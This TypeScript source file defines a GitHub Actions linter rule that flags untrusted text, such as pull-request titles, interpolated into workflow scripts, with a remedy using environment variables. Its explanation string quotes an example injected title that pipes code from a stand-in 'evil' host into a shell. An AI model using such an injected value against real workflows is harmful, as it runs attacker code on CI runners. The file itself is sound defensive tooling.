import { actionName } from "../action-pushes.ts";
import { environmentsOf } from "../conditions.ts";
import type { Breach, Rule } from "../finding.ts";
import { findUntrusted } from "../untrusted-text.ts";
import type { Job, Step, Text, Workflow } from "../workflow.ts";

/** Text that strangers write, pasted into a script before the shell reads it. */
export const scriptInjection: Rule = {
  id: "script-injection",
  title: "A stranger's text becomes part of a script",
  level: "error",
  why: 'GitHub puts the text into the script before the shell sees it, so a title such as `"; curl evil | sh #` runs. Quotes do not help.',
  remedy:
    'Hand it over as a variable: `env: { TITLE: ${{ … }} }` at the step, and `"$TITLE"` in the script (`process.env.TITLE` in github-script).',
  check: (repository) =>
    repository.workflows.flatMap((workflow) =>
      workflow.jobs.flatMap((job) => job.steps.flatMap((step) => judge(workflow, job, step))),
    ),
};

function judge(workflow: Workflow, job: Job, step: Step): Breach[] {
  const environments = environmentsOf(workflow, job, step);
  return scriptsOf(step).flatMap((script) =>
    script.snippets.flatMap(({ source, place }) => {
      const path = findUntrusted(source, environments);
      if (path === null) return [];
      const through = path === source.toLowerCase() ? "" : ` (by \`${source.slice(0, 80)}\`)`;
      const message = `The script of job \`${job.id}\` contains \`${path}\`${through}, which a stranger may write.`;
      return [{ file: workflow.file, place, message }];
    }),
  );
}

/** What is run as a program: shell scripts, and github-script's JavaScript. */
function scriptsOf(step: Step): Text[] {
  const script = actionName(step) === "actions/github-script" ? step.with.get("script") : undefined;
  return [step.run, script].flatMap((text) => text ?? []);
}
